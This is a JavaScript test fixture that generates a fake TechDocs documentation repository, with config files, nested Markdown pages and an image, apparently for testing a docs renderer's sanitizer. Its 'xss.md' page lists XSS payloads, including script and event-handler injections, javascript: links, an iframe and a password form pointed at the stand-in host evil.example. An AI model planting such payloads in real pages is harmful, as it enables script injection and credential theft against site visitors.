/**
 * A docs-like-code repository for the fake GitHub: a component whose catalog-info.yaml points TechDocs at its
 * own folder (`dir:.`), an mkdocs.yml with a nested nav, Markdown in nested folders, an image (a real PNG)
 * and a page of XSS payloads. Used by the TechDocs tests, the e2e test and the bench.
 */

/** A 1×1 transparent PNG. */
export const PNG = Uint8Array.from(atob("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="), (c) => c.charCodeAt(0));

/**
 * @param {string} name the component's name
 * @param {{ owner?: string, extraPages?: number }} [opts]
 * @returns {Record<string, string | Uint8Array>}
 */
export function techdocsRepoFiles(name, opts = {}) {
  /** @type {Record<string, string | Uint8Array>} */
  const files = {
    "catalog-info.yaml": [
      "apiVersion: backstage.io/v1alpha1",
      "kind: Component",
      "metadata:",
      `  name: ${name}`,
      "  annotations:",
      "    backstage.io/techdocs-ref: dir:.",
      "spec:",
      "  type: service",
      "  lifecycle: production",
      `  owner: ${opts.owner ?? "team-docs"}`,
      "",
    ].join("\n"),
    "mkdocs.yml": [
      `site_name: ${name} handbook`,
      "site_description: How the service is built and run.",
      "nav:",
      "  - Home: index.md",
      "  - Guides:",
      "      - Setup: guides/setup.md",
      "      - Deep dive:",
      "          - Internals: guides/deep/internals.md",
      "  - Security notes: xss.md",
      "markdown_extensions:",
      "  - admonition",
      "  - pymdownx.emoji:",
      "      emoji_index: !!python/name:material.extensions.emoji.twemoji",
      "",
    ].join("\n"),
    "docs/index.md": [
      `# ${name} handbook`,
      "",
      "Welcome to the handbook. Start with the [setup guide](guides/setup.md) or read about the",
      "[internals](guides/deep/internals.md#storage-engine).",
      "",
      "![Logo](img/logo.png)",
      "",
      "!!! note \"Heads up\"",
      "    The flux capacitor needs 1.21 gigawatts.",
      "",
      "## Ownership",
      "",
      "The docs team owns this service.",
      "",
    ].join("\n"),
    "docs/guides/setup.md": [
      "# Setup",
      "",
      "Install the toolchain, then run the service.",
      "",
      "```bash",
      "npm install && npm start",
      "```",
      "",
      "## Configuration",
      "",
      "Set `FLUX_LEVEL` to tune the zorblax throughput. Back to [home](../index.md).",
      "",
    ].join("\n"),
    "docs/guides/deep/internals.md": [
      "# Internals",
      "",
      "## Storage engine",
      "",
      "Pages are stored in a log-structured merge tree. See the [diagram](../../img/logo.png) and the [setup](../setup.md).",
      "",
      "| Layer | Purpose |",
      "|---|---|",
      "| memtable | recent writes |",
      "| sstable | sorted runs |",
      "",
      "- [x] compaction",
      "- [ ] tiering",
      "",
    ].join("\n"),
    "docs/xss.md": [
      "# Security notes",
      "",
      "<script>window.__xss = 1</script>",
      '<img src="x" onerror="window.__xss = 2">',
      '<a href="javascript:window.__xss = 3">click me</a>',
      '<svg onload="window.__xss = 4"><circle r="4"/></svg>',
      '<iframe src="https://evil.example"></iframe>',
      '<form action="https://evil.example"><input name="password"></form>',
      '<div style="background:url(javascript:window.__xss=5)">styled</div>',
      "",
      "[markdown js link](javascript:alert(1)) and ![data image](data:image/png;base64,AAAA)",
      "",
      "Harmless text survives.",
      "",
    ].join("\n"),
    "docs/img/logo.png": PNG,
    "README.md": `# ${name}\n`,
  };
  for (let i = 0; i < (opts.extraPages ?? 0); i++) files[`docs/extra/page-${i}.md`] = `# Extra page ${i}\n\nBody ${i} with some words about topic ${i}.\n\n## Details ${i}\n\nMore text.\n`;
  return files;
}
